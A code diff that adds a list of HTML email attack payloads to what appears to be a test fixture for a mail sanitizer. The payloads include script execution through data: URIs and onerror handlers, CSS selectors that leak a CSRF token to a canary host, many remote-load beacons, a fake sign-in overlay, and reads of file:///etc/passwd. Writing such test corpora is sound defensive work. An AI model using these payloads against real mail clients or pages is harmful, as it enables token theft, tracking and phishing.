@@ -54,3 +54,31 @@ const shells = (code: string, at: string): string[] => [
 ]
 /** More than 200 texts that browsers have run or fetched by; `at` is a canary that nobody may visit. */
 export const payloads = (at: string) => run(at).flatMap((code) => shells(code, at))
+
+/** Ways that mails have used beside what any page is attacked by. */
+export const payloadsOfMails = (at: string) => [
+  // CVE-2026-34718: a data: address in the HTML of a ticket.
+  `<a href="data:text/html,<script>window.__ran=1</script>">x</a>`,
+  `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="window.__ran=1"><image href="${at}/svg"/></svg>`).toString('base64')}">`,
+  `<img src="data:image/png,x" onerror="window.__ran=1">`,
+  // CVE-2026-40497: a style that reads a secret of the page and sends it on.
+  `<style>input[name=csrf][value^=a]{background:url(${at}/csrf-a)}</style><p>Hello`,
+  `<p style="background-image:url(${at}/style)">Hello`,
+  `<p style="background:url('${at}/quoted')">Hello`,
+  `<p style="width:expression(alert(1));behavior:url(${at}/htc);-moz-binding:url(${at}/xbl)">Hello`,
+  `<p style="position:fixed;inset:0;z-index:99999">Please sign in again`,
+  `<div style="font-family:x;}@import url(${at}/broken-out);{">Hello`,
+  `<table background="${at}/table"><tr><td background="${at}/cell">x</td></tr></table>`,
+  `<body background="${at}/body">Hello`,
+  `<img srcset="${at}/srcset 2x" src="x">`,
+  `<picture><source srcset="${at}/source"><img src="x"></picture>`,
+  `<img src="//${at.slice(7)}/relative">`,
+  `<img lowsrc="${at}/lowsrc" dynsrc="${at}/dynsrc">`,
+  `<video poster="${at}/poster" src="${at}/video"></video>`,
+  `<input type=image src="${at}/input">`,
+  `<link rel="dns-prefetch" href="${at}">`,
+  `<a href="${at}/ping-target" ping="${at}/ping">x</a>`,
+  `<svg><image href="${at}/image"></image><feImage href="${at}/fe"></feImage></svg>`,
+  `<img src="cid:x" onerror="window.__ran=1"><img src="cid:../../../../api/session">`,
+  `<img src="/api/session"><img src="file:///etc/passwd"><img src="blob:${at}/x">`,
+]
